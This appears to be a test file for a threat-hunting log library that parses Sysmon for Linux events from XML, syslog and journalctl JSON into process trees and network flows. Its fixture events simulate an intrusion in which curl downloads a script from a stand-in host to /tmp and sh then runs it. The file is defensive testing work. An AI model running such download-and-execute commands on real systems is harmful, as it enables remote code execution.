/**
 * Sysmon for Linux's own output: `<Event>` XML with provider `Linux-Sysmon` (the same event ids and EventData names as
 * Windows' Sysmon), as event XML (`journalctl -o cat`, an `.xml`) and as syslog lines in a `.log`
 * (`Dec  7 08:15:00 web01 sysmon: <Event>…`, other programs' lines between them). Read into a Get-WinEvent export's
 * columns, mapped as Sysmon 1 (process) and 3 (networkFlow), and built into a tree linked by the GUIDs.
 */
import assert from "node:assert/strict";
import path from "node:path";
import zlib from "node:zlib";
import { describe, it } from "node:test";
import pl from "nodejs-polars";
import { buildProcessTree } from "../../../src/index";
import { DataFileIndex } from "../../../src/data/dataSources";
import { QueryProvider } from "../../../src/data/queryProvider";
import { logFormat, readDataFile } from "../../../src/data/readers";
import { normalizeEvents } from "../../../src/data/schemas/index";
import { isJournalEventJson, isSyslogEventXml } from "../../../src/data/schemas/syslogEventXml";
import { assertLinear } from "../../helpers/linearTime";
import { tempTree } from "../../helpers/tmp";

const col = (df: pl.DataFrame, name: string) => df.getColumn(name).toArray() as unknown[];
const GUID = (n: number) => `{3b4c1a60-1111-6570-0000-00000000000${n}}`;

/** Sysmon for Linux's System element (as its `sysmon` writes it to syslog: one line, no white space). */
const system = (id: number, record: number, time: string) =>
  `<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level>` +
  `<Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${time}"/><EventRecordID>${record}</EventRecordID>` +
  `<Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System>`;
const data = (fields: Record<string, string | number>) =>
  "<EventData>" + Object.entries(fields).map(([k, v]) => `<Data Name="${k}">${v}</Data>`).join("") + "</EventData>";
const event = (id: number, record: number, time: string, fields: Record<string, string | number>) =>
  `<Event>${system(id, record, time)}${data({ RuleName: "-", UtcTime: time.replace("T", " ").slice(0, 23), ...fields })}</Event>`;

/** Event 1: `pid` running `image` under `ppid` (GUIDs by pid's last digit). */
const proc = (record: number, time: string, n: number, image: string, cmd: string, parent: number, parentImage: string) =>
  event(1, record, time, {
    ProcessGuid: GUID(n), ProcessId: 1230 + n, Image: image, FileVersion: "-", Description: "-", Product: "-", Company: "-", OriginalFileName: "-",
    CommandLine: cmd, CurrentDirectory: "/root", User: "root", LogonGuid: "{3b4c1a60-0000-0000-0000-000000000000}", LogonId: 0, TerminalSessionId: 3,
    IntegrityLevel: "no level", Hashes: "-", ParentProcessGuid: GUID(parent), ParentProcessId: 1230 + parent, ParentImage: parentImage, ParentCommandLine: "-", ParentUser: "root",
  });

const EVENTS = [
  proc(10, "2026-12-07T08:15:00.123456000Z", 1, "/usr/bin/bash", "bash -i", 0, "/usr/sbin/sshd"),
  proc(11, "2026-12-07T08:15:02.000001000Z", 2, "/usr/bin/curl", "curl -s http://x.test/a.sh?a=1&amp;b=&lt;2&gt;", 1, "/usr/bin/bash"),
  event(3, 12, "2026-12-07T08:15:03.500000000Z", {
    ProcessGuid: GUID(2), ProcessId: 1232, Image: "/usr/bin/curl", User: "root", Protocol: "tcp", Initiated: "true", SourceIsIpv6: "false", SourceIp: "10.0.0.5",
    SourceHostname: "-", SourcePort: 51000, SourcePortName: "-", DestinationIsIpv6: "false", DestinationIp: "203.0.113.9", DestinationHostname: "-", DestinationPort: 80, DestinationPortName: "-",
  }),
  event(11, 13, "2026-12-07T08:15:04.000000000Z", { ProcessGuid: GUID(2), ProcessId: 1232, Image: "/usr/bin/curl", TargetFilename: "/tmp/a.sh", CreationUtcTime: "2026-12-07 08:15:04.000", User: "root" }),
  proc(14, "2026-12-07T08:15:05.000000000Z", 3, "/usr/bin/sh", "sh /tmp/a.sh", 1, "/usr/bin/bash"),
  event(5, 15, "2026-12-07T08:15:06.000000000Z", { ProcessGuid: GUID(2), ProcessId: 1232, Image: "/usr/bin/curl", User: "root" }),
];
/** /var/log/syslog: rsyslog's prefix (a time without a year), another program's line between Sysmon's. */
const SYSLOG =
  [
    `Dec  7 08:15:00 web01 sysmon: ${EVENTS[0]}`,
    "Dec  7 08:15:01 web01 systemd[1]: Started Session 4 of user root <root@pts/0>.",
    "Dec  7 08:15:01 web01 app[77]: queued <Event> 5 for <user>",
    ...EVENTS.slice(1).map((e, i) => `Dec  7 08:15:0${i + 2} web01 sysmon: ${e}`),
  ].join("\n") + "\n";

function read(name: string, content: string | Buffer, warnings: string[] = []): pl.DataFrame {
  return readDataFile(path.join(tempTree({ [name]: content }), name), { warn: (m) => warnings.push(m) });
}

/** The checks every form of the same six events passes: rows, times, the process tree, the network flow. */
function checkEvents(df: pl.DataFrame): void {
  assert.deepEqual(col(df, "ProviderName"), Array(6).fill("Linux-Sysmon"));
  assert.deepEqual(col(df, "Id"), [1, 1, 3, 11, 1, 5]);
  // The event's own time (its year), not syslog's year-less prefix.
  assert.equal((col(df, "TimeCreated")[0] as Date).toISOString(), "2026-12-07T08:15:00.123Z");
  assert.equal(col(df, "CommandLine")[1], "curl -s http://x.test/a.sh?a=1&b=<2>");
  assert.equal(col(df, "TargetFilename")[3], "/tmp/a.sh");
  const warnings: string[] = [];
  const procs = normalizeEvents(df, "process", { warn: (m) => warnings.push(m) });
  assert.deepEqual(col(procs, "NewProcessName"), ["/usr/bin/bash", "/usr/bin/curl", "/usr/bin/sh"]);
  assert.deepEqual(col(procs, "ParentProcessName"), ["/usr/sbin/sshd", "/usr/bin/bash", "/usr/bin/bash"]);
  // Events 11 and 5 are read too (no longer counted as no query's): curl's end on its creation row, the file created as a fileCreate row.
  assert.ok(!warnings.some((w) => /no lab query maps/.test(w)), warnings.join("\n"));
  assert.deepEqual((procs.getColumn("ProcessEndTime").cast(pl.Datetime("ms")).toArray() as (Date | null)[]).map((d) => d && d.toISOString()), [null, "2026-12-07T08:15:06.000Z", null]);
  assert.deepEqual(col(normalizeEvents(df, "fileCreate", { warn: () => undefined }), "FilePath"), ["/tmp/a.sh"]);
  const tree = buildProcessTree(df, { warn: () => undefined });
  const byImage = new Map((col(tree, "Image") as string[]).map((image, i) => [image, i]));
  const keys = col(tree, "proc_key"), parents = col(tree, "parent_key"), levels = col(tree, "Level");
  const parentOf = (image: string) => parents[byImage.get(image)!];
  assert.equal(parentOf("/usr/bin/curl"), keys[byImage.get("/usr/bin/bash")!]);
  assert.equal(parentOf("/usr/bin/sh"), keys[byImage.get("/usr/bin/bash")!]);
  assert.equal(parentOf("/usr/bin/bash"), keys[byImage.get("/usr/sbin/sshd")!]);
  assert.deepEqual([levels[byImage.get("/usr/sbin/sshd")!], levels[byImage.get("/usr/bin/bash")!], levels[byImage.get("/usr/bin/curl")!]], [1, 2, 3]);
  assert.equal(tree.height, 4, "sshd (inferred), bash, curl, sh");
  const flows = normalizeEvents(df, "networkFlow", { warn: () => undefined });
  assert.deepEqual([col(flows, "SrcIP"), col(flows, "DestIP"), col(flows, "DestPort"), col(flows, "VMName")], [["10.0.0.5"], ["203.0.113.9"], [80], ["web01"]]);
}

describe("Sysmon for Linux events (provider Linux-Sysmon)", () => {
  it("as event XML (journalctl -o cat into an .xml): Sysmon 1 processes, their tree by GUID, Sysmon 3 flows", () => {
    checkEvents(read("sysmon.xml", EVENTS.join("\n") + "\n"));
  });

  it("a Windows host's Sysmon and a Linux host's in one frame: both hosts' processes", () => {
    const windows = proc(20, "2026-12-07T09:00:00.000000000Z", 4, "C:\\Windows\\System32\\cmd.exe", "cmd", 5, "C:\\Windows\\explorer.exe")
      .replace("Linux-Sysmon", "Microsoft-Windows-Sysmon")
      .replace("<Computer>web01</Computer>", "<Computer>WS01</Computer>");
    const procs = normalizeEvents(read("both.xml", [...EVENTS, windows].join("\n")), "process", { warn: () => undefined });
    assert.deepEqual(col(procs, "Computer"), ["web01", "web01", "web01", "WS01"]);
  });
});

describe("Sysmon for Linux's syslog lines in a .log", () => {
  it("/var/log/syslog's lines: Sysmon's events read, other programs' lines skipped, the events' own times", () => {
    const warnings: string[] = [];
    checkEvents(read("syslog.log", SYSLOG, warnings));
    // The other lines are said, not dropped in silence: one forged event line in an auth.log would otherwise hide all of it.
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /syslog\.log: read as Sysmon for Linux's syslog \(lines of <Event> XML\); 2 other line\(s\) carry no event \(the first: line 2\) and are left out\. .*grep -v '<Event' ".*syslog\.log"\)$/);
  });

  it("journalctl's prefixes (short-iso, a pid), CRLF line ends, and gzip (syslog.log.gz)", () => {
    const journal = EVENTS.map((e, i) => `2026-12-07T08:15:0${i}+0000 web01 sysmon[812]: ${e}`).join("\r\n");
    checkEvents(read("journal.log", journal));
    checkEvents(read("syslog.log.gz", zlib.gzipSync(SYSLOG)));
  });

  it("one cut or malformed line is left out, counted and named; the lines after it are read", () => {
    const lines = SYSLOG.split("\n");
    // rsyslog cuts a message past its size limit: the event's end is lost. And a line whose tags do not close in order.
    lines.splice(3, 0, `Dec  7 08:15:02 web01 sysmon: ${EVENTS[1].slice(0, 900)}`, `Dec  7 08:15:02 web01 sysmon: <Event><System></Event>`);
    // Another program's bytes that are not UTF-8.
    const text = Buffer.concat([Buffer.from(lines.join("\n")), Buffer.from([0x0a, 0xff, 0xfe, 0x0a])]);
    const warnings: string[] = [];
    const df = read("cut.log", text, warnings);
    checkEvents(df);
    assert.equal(warnings.length, 2, warnings.join("\n"));
    assert.match(warnings[0], /^.*cut\.log: 2 line\(s\) with an <Event> could not be read \(the first: line 4;/);
    assert.match(warnings[1], /cut\.log: read as Sysmon for Linux's syslog .*; 3 other line\(s\) carry no event \(the first: line 2\)/);
  });

  it("a .log is known as such by its lines, after other programs' lines too; a data folder lists it", () => {
    const other = "Dec  7 08:14:59 web01 kernel: [ 1.0] <4>usb 1-1: new device\n".repeat(200);
    const app = "[2026-12-07 08:15:00] INFO app started\n".repeat(200);
    const dir = tempTree({ "d/syslog.log": other + SYSLOG, "d/kern.log": other, "d/app.log": app });
    assert.equal(logFormat(path.join(dir, "d", "syslog.log")), "eventxml");
    // Syslog lines without events are plain syslog (README "Raw syslog files"); an application's own log is neither.
    assert.equal(logFormat(path.join(dir, "d", "kern.log")), "syslog");
    assert.equal(logFormat(path.join(dir, "d", "app.log")), undefined);
    assert.deepEqual(new DataFileIndex([path.join(dir, "d")]).sources().map((s) => s.name).sort(), ["kern.log", "syslog.log"]);
    assert.equal(readDataFile(path.join(dir, "d", "syslog.log")).height, 6);
    // A .log of neither form still says what it is not, now naming this form too.
    assert.throws(() => readDataFile(path.join(dir, "d", "app.log")), /nor syslog lines of <Event> XML \(Sysmon for Linux\)/);
  });

  it("an exported syslog saved as .xml (its content, not its extension, decides): read as the .log is, other .xml still refused", () => {
    const warnings: string[] = [];
    checkEvents(read("exported.xml", SYSLOG, warnings));
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /exported\.xml: read as Sysmon for Linux's syslog \(lines of <Event> XML\); 2 other line\(s\) carry no event \(the first: line 2\)/);
    checkEvents(read("exported.xml.gz", zlib.gzipSync(SYSLOG)));
    // After 200 other programs' lines too; a data folder lists it; syslog lines without an event are no .xml source.
    const other = "Dec  7 08:14:59 web01 kernel: [ 1.0] <4>usb 1-1: new device\n".repeat(200);
    const dir = tempTree({ "d/exported.xml": other + SYSLOG, "d/kern.xml": other, "d/config.xml": "<configuration><Event>x</Event></configuration>\n" });
    assert.equal(readDataFile(path.join(dir, "d", "exported.xml"), { warn: () => undefined }).height, 6);
    assert.deepEqual(new DataFileIndex([path.join(dir, "d")]).sources().map((s) => s.name), ["exported.xml"]);
    for (const name of ["kern.xml", "config.xml"]) {
      assert.throws(() => readDataFile(path.join(dir, "d", name)), { code: "data/file-invalid", message: /not wevtutil's XML output .* nor syslog lines of <Event> XML \(Sysmon for Linux\)/ });
    }
  });

  it("detection is linear on hostile heads (many <Event tokens, no <System>)", () => {
    assertLinear("isSyslogEventXml", (n) => "<Event ".repeat(n / 7), (s) => void isSyslogEventXml(s));
    assertLinear("isSyslogEventXml lines", (n) => "x <Event>\n".repeat(n / 10), (s) => void isSyslogEventXml(s));
    // journalctl -o json: a first journal entry, then entries whose MESSAGE is all <Event tokens, or one line of them.
    const first = JSON.stringify({ __CURSOR: "s", MESSAGE: "x" }) + "\n";
    assertLinear("isJournalEventJson lines", (n) => first + `{"__CURSOR":"s","MESSAGE":"<Event <Event"}\n`.repeat(n / 40), (s) => void isJournalEventJson(s));
    assertLinear("isJournalEventJson one line", (n) => first + `{"__CURSOR":"s","MESSAGE":"${"<Event ".repeat(n / 7)}"}\n`, (s) => void isJournalEventJson(s));
  });

  it("a LocalData query of the .log (process and networkFlow schemas, read asynchronously) maps it; start/end by the events' times", async () => {
    const source = (name: string, schema: string) =>
      `  ${name}:\n    description: ${name}\n    metadata: {schema: ${schema}}\n    args: {query: syslog.log}\n    parameters:\n      start: {description: s, type: datetime, default: null}\n      end: {description: e, type: datetime, default: null}\n`;
    const dir = tempTree({
      "q/linux.yaml": `metadata: {version: 1, description: linux, data_environments: [LocalData], data_families: [Linux]}\nsources:\n${source("processes", "process")}${source("flows", "networkFlow")}`,
      "d/syslog.log": SYSLOG,
    });
    const qp = new QueryProvider("LocalData", { dataPaths: [path.join(dir, "d")], queryPaths: [path.join(dir, "q")], readOptions: { warn: () => undefined } }) as unknown as Record<string, Record<string, (p?: object) => Promise<pl.DataFrame>>>;
    const procs = await qp.Linux.processes({ start: new Date("2026-12-07T08:15:01Z") });
    assert.deepEqual(col(procs, "NewProcessName"), ["/usr/bin/curl", "/usr/bin/sh"]);
    const flows = await qp.Linux.flows();
    assert.deepEqual(col(flows, "DestIP"), ["203.0.113.9"]);
  });
});

/** A journal entry as `journalctl -o json` writes it (one line), `message` as given (a string, an array of bytes, null). */
const entry = (n: number, identifier: string, message: unknown) =>
  JSON.stringify({
    __CURSOR: `s=6f1c0d2e;i=${n.toString(16)};b=9a8b;m=${n}`, __REALTIME_TIMESTAMP: String(1796631300000000 + n), __MONOTONIC_TIMESTAMP: String(n),
    _BOOT_ID: "9a8b", PRIORITY: "6", SYSLOG_FACILITY: "3", SYSLOG_IDENTIFIER: identifier, _PID: "812", _COMM: identifier, _HOSTNAME: "web01", MESSAGE: message,
  });
/** `journalctl -o json`: Sysmon's entries, another program's between them, one of Sysmon's MESSAGE written as its bytes. */
const JOURNAL = [
  entry(1, "sysmon", EVENTS[0]),
  entry(2, "systemd", "Started Session 4 of user root."),
  entry(3, "app", [0x71, 0xff, 0x3c, 0x45, 0x76, 0x65, 0x6e, 0x74, 0x3e]),
  entry(4, "sysmon", [...Buffer.from(EVENTS[1])]),
  ...EVENTS.slice(2).map((e, i) => entry(5 + i, "sysmon", e)),
];

describe("Sysmon for Linux in journalctl -o json output", () => {
  it("each entry's MESSAGE read as its event (a string or journalctl's array of bytes); other programs' entries counted and left out", () => {
    for (const name of ["sysmon.json", "sysmon.ndjson", "journal.log"]) {
      const warnings: string[] = [];
      checkEvents(read(name, JOURNAL.join("\n") + "\n", warnings));
      assert.equal(warnings.length, 1, warnings.join("\n"));
      assert.match(warnings[0], new RegExp(`${name.replace(".", "\\.")}: read as journalctl -o json output of Sysmon for Linux .*; 2 other line\\(s\\) carry no event \\(the first: line 2; other programs' entries\\) and are left out\\. .*journalctl -t sysmon -o json\\)$`));
    }
    checkEvents(read("sysmon.json.gz", zlib.gzipSync(JOURNAL.join("\r\n"))));
  });

  it("one bad line spoils only itself: a cut entry, a MESSAGE journalctl wrote as null (over 4096 bytes without --all), a malformed event", () => {
    const lines = [...JOURNAL];
    lines.splice(2, 0, JOURNAL[1].slice(0, 40), entry(20, "sysmon", null), entry(21, "sysmon", "<Event><System></Event>"), JOURNAL[0].slice(0, 900));
    const warnings: string[] = [];
    checkEvents(read("cut.json", lines.join("\n"), warnings));
    assert.equal(warnings.length, 3, warnings.join("\n"));
    assert.match(warnings[0], /cut\.json: 2 line\(s\) with an <Event> could not be read \(the first: line 5; a line that is no complete JSON entry, /);
    assert.match(warnings[1], /cut\.json: 1 sysmon entry has a null MESSAGE \(the first: line 4\) and is left out: journalctl -o json writes a field longer than 4096 bytes as null\. Export again with --all/);
    assert.match(warnings[2], /cut\.json: read as journalctl -o json output .*; 3 other line\(s\) carry no event \(the first: line 2;/);
  });

  it("JSON lines that are no journal export, or a journal without Sysmon's entries, are read as JSON lines", () => {
    const plain = [JSON.stringify({ MESSAGE: EVENTS[0], host: "web01" }), JSON.stringify({ MESSAGE: "x", host: "web02" })].join("\n");
    assert.deepEqual(read("plain.json", plain).columns, ["MESSAGE", "host"]);
    const other = [entry(1, "systemd", "Started."), entry(2, "sshd", "Accepted publickey for root")].join("\n");
    assert.deepEqual(col(read("journal.json", other), "SYSLOG_IDENTIFIER"), ["systemd", "sshd"]);
  });
});
